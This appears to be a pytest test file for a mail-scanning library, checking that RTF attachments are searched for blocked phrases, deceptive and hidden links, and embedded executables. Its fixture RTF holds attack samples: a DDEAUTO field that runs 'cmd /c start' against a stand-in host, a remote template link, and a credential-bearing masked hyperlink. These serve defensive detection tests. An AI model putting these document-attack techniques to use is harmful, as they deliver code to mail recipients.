"""RTF inside of messages: read when wanted, whatever the part is called; phrases and addresses get the place "rtf"."""

from __future__ import annotations

import base64
import hashlib
import struct
from pathlib import Path

import pytest

from mailsift import facts
from mailsift.config import Limits
from mailsift.database import Database

RTF = (
    rb"{\rtf1\ansi\ansicpg1251 \'ea\'f3\'ef\'e8\'f2\'e5 cheap pi\-lls at www.shop.example\par"
    rb'{\field{\*\fldinst HYPERLINK "http://user:secret@login.example.com/a"}{\fldrslt https://bank.example/}}'
    rb'{\v{\field{\*\fldinst HYPERLINK "http://hidden.example/"}{\fldrslt x}}}'
    rb"{\field{\*\fldinst DDEAUTO cmd {/c start http://loaded.example/x}}}{\*\template http://t.example/t.dotm}}"
)
ALL = facts.PHRASES | facts.ADDRESSES | facts.RTF
HIDDEN_LINK = 1 << 17


def message(content: bytes, kind: str, disposition: str = "attachment; filename=a.doc") -> bytes:
    return (
        b"From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\n\r\nhello\r\n--b\r\nContent-Type: " + kind.encode() +
        b"\r\nContent-Disposition: " + disposition.encode() +
        b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(content) + b"\r\n--b--\r\n"
    )  # fmt: skip


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Database:
    folder = tmp_path_factory.mktemp("lists")
    lists: dict[str, list[Path]] = {}
    for name, line in (("blocked-phrases", "cheap pills\nкупите\n"), ("phishing", "t.example/t.dotm\n")):
        lists[name] = [folder / f"{name}.txt"]
        lists[name][0].write_text(line, encoding="utf-8")
    return Database(None, lists, builtin=False)


@pytest.mark.parametrize(("kind", "disposition"), [
    ("application/rtf", "attachment; filename=a.rtf"), ("application/msword", "attachment; filename=a.doc"),
    ("image/png", "inline"), ("application/octet-stream", "attachment"), ("text/rtf", "inline"),
    ("text/rtf", "attachment; filename=a.rtf"), ("text/plain", "attachment; filename=a.txt"),
])  # fmt: skip
def test_documents_are_known_by_their_content(kind: str, disposition: str, database: Database) -> None:
    seen = facts.extract(message(RTF, kind, disposition), None, database.tables, ALL)
    phrases = {hit.text for hit in seen.phrase_hits if hit.where == "rtf"}
    assert phrases == {"купите", "cheap pills"}
    found = {url.host: url for url in seen.urls if url.where == "rtf"}
    assert set(found) == {"www.shop.example", "login.example.com", "bank.example", "hidden.example",
                          "loaded.example", "t.example"}  # fmt: skip
    assert all(url.part == "2" for url in found.values())
    login = found["login.example.com"]
    assert (login.had_password, login.text_differs, login.url) == (True, True, "http://login.example.com/a")
    assert found["hidden.example"].flags & HIDDEN_LINK
    # A text part is read as text as well.
    known = [seen.urls[hit.url] for hit in seen.address_hits]
    assert [url.host for url in known if url.where == "rtf"] == ["t.example"]
    assert seen.limits == ()


def test_documents_are_not_read_unless_wanted(database: Database) -> None:
    raw = message(RTF, "application/rtf")
    seen = facts.extract(raw, None, database.tables, facts.PHRASES | facts.ADDRESSES)
    assert (seen.urls, seen.phrase_hits, seen.address_hits) == ((), (), ())
    assert seen.attachments == facts.extract(raw, None, database.tables, ALL).attachments


def test_other_files_are_left_alone(database: Database) -> None:
    seen = facts.extract(message(b"x" + RTF, "application/rtf"), None, database.tables, ALL)
    assert seen.urls == ()


def test_files_inside_of_documents_are_files() -> None:
    content = b"MZ\x90"
    native = (b"\2\0a.exe\0C:\\a.exe\0\0\0\3\0" + struct.pack("<I", 2) + b"t\0" + struct.pack("<I", len(content)) +
              content)  # fmt: skip
    ole = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(native)) + native
    document = rb"{\rtf1{\object\objemb{\*\objdata " + ole.hex().encode() + rb"}}{\pict\pngblip 8950}}"
    raw = message(document, "application/rtf")
    seen = facts.extract(raw, wanted=facts.RTF)
    assert [(file.name, file.size, file.sha256) for file in seen.attachments] == [
        ("a.doc", len(document), hashlib.sha256(document).hexdigest()),
        ("a.exe", 3, hashlib.sha256(content).hexdigest())]
    assert seen.parts[-1].parent == 2
    assert facts.extract(raw, facts.native_limits(Limits(parts=3)), wanted=facts.RTF).limits == ("parts",)
    assert len(facts.extract(raw).attachments) == 1


def test_texts_are_kept_by_place() -> None:
    seen = facts.extract(message(RTF, "application/rtf"), wanted=facts.RTF | facts.TEXTS)
    kept = {text.kind: text.text for text in seen.texts if text.where == "rtf"}
    assert kept["visible"].startswith("купите cheap pills at")
    assert kept["hidden"] == "x"
    assert "folded" in kept


def test_limits_of_the_message_hold_for_documents() -> None:
    raw = message(rb"{\rtf1 " + b"a" * 5000 + b"}", "application/rtf")
    seen = facts.extract(raw, facts.native_limits(Limits(text_bytes=1000)), wanted=facts.RTF | facts.TEXTS)
    assert seen.limits == ("text_bytes",)
    assert sum(len(text.text) for text in seen.texts if text.kind == "visible" and text.where == "rtf") < 1000
